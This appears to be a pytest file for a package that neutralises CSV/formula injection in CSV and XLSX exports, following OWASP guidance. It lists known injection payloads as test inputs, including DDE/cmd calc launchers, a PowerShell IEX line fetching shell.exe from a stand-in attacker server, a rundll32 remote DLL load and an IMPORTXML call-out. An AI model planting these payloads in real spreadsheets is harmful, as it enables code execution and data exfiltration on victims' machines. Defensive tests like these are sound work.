"""Tests of noream_eval.writers: CSV and XLSX outputs that are safe to open in Excel.

The rule is OWASP's "CSV Injection" page
(https://owasp.org/www-community/attacks/CSV_Injection): no cell may begin with
=, +, -, @, tab (0x09), carriage return (0x0D) or line feed (0x0A); OWASP ASVS 5.0
requirement 1.2.10 adds the null character (0x00).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from noream_eval.writers import (
    _sheet_names,
    neutralise_formulas,
    neutralise_text,
    write_csv,
    write_xlsx,
)

FAST = settings(
    max_examples=int(os.environ.get("NOREAM_HYPOTHESIS_EXAMPLES", "100")), deadline=None
)

# OWASP "CSV Injection": the two examples of its sanitisation table.
OWASP_PAYLOADS = ['=1+2";=1+2', "=1+2'\" ;,=1+2"]

# PayloadsAllTheThings, "CSV Injection/README.md" (swisskyrepo/PayloadsAllTheThings).
PATT_PAYLOADS = [
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=cmd|' /C calc'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=AAAA+BBBB-CCCC&\"Hello\"/12345&cmd|'/c calc.exe'!A",
    "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
    "=         cmd|'/c calc.exe'!A",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
    "=\x00\x00C\x00m\x00D\x00|\x00'/\x00c\x00 calc.exe'\x00!\x00A",  # NUL-padded "cmd"
    '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
]
# payloadbox/csv-injection-payloads README.
PAYLOADBOX_PAYLOADS = [
    '=DDE("cmd";"/C calc";"!A0")A0',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
]
# Each leading character OWASP (and ASVS) lists, and the obfuscations that hide them.
LEADING_PAYLOADS = [
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A1",
    "--1-cmd|'/C calc'!'A1'",
    "\t=cmd|'/C notepad'!'A2'",
    "\r=cmd|'/C notepad'!'A3'",
    "\n=cmd|'/C notepad'!'A4'",
    "\x00=1+1",
    "\tplain text after a tab",
    # defence in depth, beyond OWASP's list
    " =1+1",
    "\u00a0@SUM(A1)",
    "\uff1d1+1",  # full-width =
    "\u3000\uff20SUM(A1)",  # ideographic space, full-width @
]
ALL_PAYLOADS = OWASP_PAYLOADS + PATT_PAYLOADS + PAYLOADBOX_PAYLOADS + LEADING_PAYLOADS
BRIEF_PAYLOADS = ['=HYPERLINK("http://x","click")', "@SUM(A1)", "=1+1"]

PLAIN_NUMBERS = ["-5", "+3.25", "-1,234.50", "1,234", "-0.5", "-.5", "+44", "1e-3", "-2E+10", "0"]
ORDINARY = ["Walk-in", "Section 17", "£1,234.50", "2021-03-04", "", "'already quoted", "a=b", "x-1"]


@pytest.mark.parametrize("payload", ALL_PAYLOADS + BRIEF_PAYLOADS)
def test_payloads_are_neutralised(payload: str) -> None:
    assert neutralise_text(payload) == "'" + payload


def test_dde_without_a_trigger_is_inert_text() -> None:
    # PayloadsAllTheThings also lists 'DDE ("cmd";...)A0' without a leading "=": it does
    # not begin with a trigger, so a spreadsheet shows it as text and it is left alone.
    payload = 'DDE ("cmd";"/C calc";"!A0")A0'
    assert neutralise_text(payload) == payload


@pytest.mark.parametrize("value", PLAIN_NUMBERS + ORDINARY)
def test_plain_numbers_and_ordinary_text_are_unchanged(value: str) -> None:
    assert neutralise_text(value) == value


@pytest.mark.parametrize("value", ["-", "+", "--5", "-5-5", "-1,23", "+44 20 7946 0123", "-£5"])
def test_near_numbers_are_neutralised(value: str) -> None:
    assert neutralise_text(value) == "'" + value


TRIGGERS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"


def _is_plain_number(text: str) -> bool:
    return bool(
        re.fullmatch(r"[+-]?(?:\d+|\d{1,3}(?:,\d{3})+)?(?:\.\d+)?(?:[eE][+-]?\d+)?", text.strip())
    ) and any(c.isdigit() for c in text)


@FAST
@given(
    st.text(alphabet=st.sampled_from(list(TRIGGERS) + list(" \u00a01234.,eE'aZ|(")), max_size=12)
)
def test_neutralised_text_never_starts_a_formula(value: str) -> None:
    out = neutralise_text(value)
    assert out in (value, "'" + value)
    assert neutralise_text(out) == out  # idempotent
    if not _is_plain_number(out):
        assert not out or out[0] not in TRIGGERS
        assert not out.lstrip() or out.lstrip()[0] not in TRIGGERS


@FAST
@given(st.text(max_size=20))
def test_neutralise_changes_only_values_that_start_with_a_trigger(value: str) -> None:
    out = neutralise_text(value)
    if out != value:
        assert out == "'" + value
        assert value.lstrip()[:1] in TRIGGERS or value[:1] in TRIGGERS


# --------------------------------------------------------------------------- frames


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "obj": pd.Series([*BRIEF_PAYLOADS, "Walk-in", None, 17, -5.0], dtype=object),
            "str": pd.Series(["=1+1", "-5", "+3.25", "-1,234.50", None, "ok", "@x"], dtype="str"),
            "cat": pd.Categorical(["=a", "b", "=a", "-7", None, "b", "b"]),
            "num": [-5.0, 1.5, np.nan, 3.0, -1.0, 0.0, 2.0],
            "int": pd.array([-1, None, 3, 4, 5, 6, 7], dtype="Int64"),
            "date": pd.to_datetime(
                ["2021-03-04", None, "2021-03-05", "2021-03-06", None, "2021-01-01", "2021-01-02"]
            ),
            "flag": [True, False, True, False, True, False, True],
        }
    )


def test_neutralise_formulas_touches_text_only() -> None:
    df = _frame()
    before = df.copy()
    out = neutralise_formulas(df)
    pd.testing.assert_frame_equal(df, before)  # input untouched
    assert [str(t) for t in out.dtypes] == [str(t) for t in df.dtypes]
    assert out["obj"].tolist()[:4] == ["'" + p for p in BRIEF_PAYLOADS] + ["Walk-in"]
    assert out["obj"].tolist()[5:] == [17, -5.0]
    assert pd.isna(out["obj"][4])
    assert out["str"].tolist()[:4] == ["'=1+1", "-5", "+3.25", "-1,234.50"]
    assert pd.isna(out["str"][4]) and out["str"][6] == "'@x"
    assert set(out["cat"].cat.categories) == {"'=a", "-7", "b"}
    assert out["cat"].tolist()[:2] == ["'=a", "b"]
    for col in ("num", "int", "date", "flag"):
        pd.testing.assert_series_equal(out[col], df[col])


def test_neutralise_formulas_categories_that_would_collide() -> None:
    df = pd.DataFrame({"c": pd.Categorical(["=a", "'=a", "b"])})
    out = neutralise_formulas(df)
    assert out["c"].tolist() == ["'=a", "'=a", "b"]


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def test_write_csv_neutralises_and_round_trips(tmp_path: Path) -> None:
    df = pd.DataFrame(
        {
            "=cmd": [*BRIEF_PAYLOADS, "-5", "Walk-in", None],
            "amount": [1.5, -2.0, 3.0, 4.0, 5.0, np.nan],
            "when": pd.to_datetime(["2021-03-04"] * 5 + [None]),
        }
    )
    path = write_csv(df, tmp_path / "out.csv")
    assert path == tmp_path / "out.csv"
    rows = _read_csv(path)
    assert rows[0] == ["'=cmd", "amount", "when"]
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://x","click")',
        "'@SUM(A1)",
        "'=1+1",
        "-5",
        "Walk-in",
        "",
    ]
    assert [r[1] for r in rows[1:]] == ["1.5", "-2.0", "3.0", "4.0", "5.0", ""]
    assert rows[1][2] == "2021-03-04" and rows[6][2] == ""
    raw = path.read_bytes()
    assert b"\r\n" not in raw and raw.count(b"\n") == 7
    raw.decode("utf-8")


def test_write_csv_every_payload_comes_back_quoted(tmp_path: Path) -> None:
    df = pd.DataFrame({"payload": ALL_PAYLOADS})
    rows = _read_csv(write_csv(df, tmp_path / "p.csv"))
    # (a carriage return inside a cell is written as a line feed: see the next test)
    assert [r[0] for r in rows[1:]] == ["'" + p.replace("\r", "\n") for p in ALL_PAYLOADS]
    for r in rows[1:]:
        assert len(r) == 1  # separators and quotes inside a value never start a new cell


def test_write_csv_line_breaks_inside_cells(tmp_path: Path) -> None:
    df = pd.DataFrame({"note": ["a\r\nb", "c\rd", "e\nf", "plain"], "n": [1, 2, 3, 4]})
    path = write_csv(df, tmp_path / "lb.csv")
    assert b"\r" not in path.read_bytes()
    assert _read_csv(path) == [
        ["note", "n"],
        ["a\nb", "1"],
        ["c\nd", "2"],
        ["e\nf", "3"],
        ["plain", "4"],
    ]


def test_write_csv_index(tmp_path: Path) -> None:
    df = pd.DataFrame({"v": [1, 2]}, index=pd.Index(["=a", "b"], name="@id"))
    rows = _read_csv(write_csv(df, tmp_path / "i.csv", index=True))
    assert rows == [["'@id", "v"], ["'=a", "1"], ["b", "2"]]


# ---------------------------------------------------------------------------- xlsx


def _sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")}


def test_write_xlsx_cell_types_and_no_formulas(tmp_path: Path) -> None:
    df = _frame()
    df["big"] = pd.array([12345678901234567, 1, 2, 3, 4, 5, None], dtype="Int64")
    df["tz"] = pd.to_datetime(["2021-03-04 10:30"] * 7).tz_localize("Europe/London")
    df["mixed"] = pd.Series(
        [dt.date(2021, 3, 4), dt.datetime(2021, 3, 4, 9, 0), "=x", 3, True, float("nan"), None],
        dtype=object,
    )
    payloads = pd.DataFrame({"payload": ALL_PAYLOADS})
    path = write_xlsx({"data": df, "payloads": payloads}, tmp_path / "out.xlsx")
    wb = CalamineWorkbook.from_path(str(path))
    assert wb.sheet_names == ["data", "payloads"]
    rows = wb.get_sheet_by_name("data").to_python()
    header, body = rows[0], rows[1:]
    assert header == list(df.columns)
    col = {name: [r[j] for r in body] for j, name in enumerate(header)}
    assert col["obj"] == ["'" + p for p in BRIEF_PAYLOADS] + ["Walk-in", "", 17.0, -5.0]
    assert col["str"] == ["'=1+1", "-5", "+3.25", "-1,234.50", "", "ok", "'@x"]
    assert col["cat"] == ["'=a", "b", "'=a", "-7", "", "b", "b"]
    assert col["num"] == [-5.0, 1.5, "", 3.0, -1.0, 0.0, 2.0]
    assert all(isinstance(v, float) for v in col["num"] if v != "")
    assert col["int"] == [-1.0, "", 3.0, 4.0, 5.0, 6.0, 7.0]
    assert col["date"][0] == dt.date(2021, 3, 4) and col["date"][1] == ""
    assert col["flag"] == [True, False, True, False, True, False, True]
    assert col["big"][0] == "12345678901234567"  # more digits than Excel keeps: text
    assert col["tz"][0] == dt.datetime(2021, 3, 4, 10, 30)  # wall-clock time
    assert col["mixed"][:5] == [
        dt.date(2021, 3, 4),
        dt.datetime(2021, 3, 4, 9, 0),
        "'=x",
        3.0,
        True,
    ]
    assert col["mixed"][5:] == ["", ""]
    p_rows = wb.get_sheet_by_name("payloads").to_python()
    assert len(p_rows) == len(ALL_PAYLOADS) + 1
    assert all(str(r[0]).startswith("'") for r in p_rows[1:])
    for name, xml in _sheet_xml(path).items():
        assert not re.search(r"<f[ >]", xml), name  # no formula element anywhere
    xml = _sheet_xml(path)["xl/worksheets/sheet1.xml"]
    assert 'state="frozen"' in xml and 'ySplit="1"' in xml  # header row frozen
    assert "<col " in xml  # widths set
    with zipfile.ZipFile(path) as z:
        styles = z.read("xl/styles.xml").decode()
    assert "<b/>" in styles  # the bold header format


def test_write_xlsx_payload_sheet_round_trips(tmp_path: Path) -> None:
    # control characters are stored escaped (_x0000_, _x000D_) and read back as written
    path = write_xlsx({"p": pd.DataFrame({"payload": ALL_PAYLOADS})}, tmp_path / "p.xlsx")
    sheet = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("p").to_python()
    assert [r[0] for r in sheet[1:]] == ["'" + p for p in ALL_PAYLOADS]


def test_write_xlsx_widths_are_capped(tmp_path: Path) -> None:
    df = pd.DataFrame({"short": ["a"], "long": ["x" * 500]})
    xml = _sheet_xml(write_xlsx({"s": df}, tmp_path / "w.xlsx"))["xl/worksheets/sheet1.xml"]
    widths = [float(w) for w in re.findall(r'<col [^>]*width="([\d.]+)"', xml)]
    assert len(widths) == 2 and widths[0] < 10 and 55 < widths[1] < 62


def test_write_xlsx_empty_and_header_only(tmp_path: Path) -> None:
    path = write_xlsx({"empty": pd.DataFrame({"=a": [], "b": []})}, tmp_path / "e.xlsx")
    assert CalamineWorkbook.from_path(str(path)).get_sheet_by_name("empty").to_python() == [
        ["'=a", "b"]
    ]


def test_write_xlsx_rejects_tables_too_large(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import noream_eval.writers as w

    monkeypatch.setattr(w, "_XLSX_MAX_ROWS", 3)
    with pytest.raises(ValueError, match="Write it as CSV instead"):
        write_xlsx({"t": pd.DataFrame({"a": [1, 2, 3]})}, tmp_path / "t.xlsx")


def test_sheet_names_are_made_valid() -> None:
    names = _sheet_names(
        ["a/b", "A_B", "x" * 40, "x" * 40, "'quoted'", "", "History", "[rejects]:*?", "a_b"]
    )
    assert names == [
        "a_b",
        "A_B (2)",
        "x" * 31,
        "x" * 27 + " (2)",
        "quoted",
        "Sheet",
        "History_",
        "_rejects____",
        "a_b (3)",
    ]
    assert len({n.lower() for n in names}) == len(names)
    assert all(len(n) <= 31 and not re.search(r"[\[\]:*?/\\]", n) for n in names)


@FAST
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
def test_sheet_names_are_always_accepted_by_xlsxwriter(raw: list[str]) -> None:
    import xlsxwriter

    names = _sheet_names(raw)
    assert len({n.lower() for n in names}) == len(names)
    wb = xlsxwriter.Workbook(io.BytesIO(), {"in_memory": True})
    for n in names:
        wb.add_worksheet(n)  # raises InvalidWorksheetName / DuplicateWorksheetName otherwise
    wb.close()
